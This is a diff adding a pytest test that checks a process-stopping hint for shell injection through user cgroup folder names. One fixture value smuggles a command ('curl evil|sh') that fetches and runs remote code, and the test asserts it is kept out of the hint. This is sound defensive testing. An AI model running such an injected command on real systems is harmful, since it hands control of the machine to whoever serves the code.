@@ -167,6 +167,15 @@ def test_an_engine_of_a_users_service_is_stopped_by_that_users_manager(tree: Tre
     assert "systemctl --user -M milo@ stop ds4.service" in judged(tree).hint
 
 
+def test_no_folder_of_a_users_cgroups_puts_a_command_into_the_hint(tree: Tree) -> None:
+    tree.file("/etc/passwd", "milo:x:0:1000::/home/milo:/bin/bash\n")
+    manager = "0::/user.slice/user-1000.slice/user@1000.service"
+    tree.process(30, "vllm", argv=SERVE, cgroup=f"{manager}/x; curl evil|sh #.service")
+    assert "evil" not in judged(tree).hint
+    tree.process(30, "vllm", argv=SERVE, cgroup=rf"{manager}/app-a\x2db.service")
+    assert r"systemctl --user -M milo@ stop 'app-a\x2db.service'; " in judged(tree).hint
+
+
 def test_a_worker_adopted_by_init_whose_main_process_lives_belongs_to_it(tree: Tree) -> None:
     tree.process(9, "vllm", argv=SERVE)
     tree.process(10, "VLLM::EngineCor", group=9)
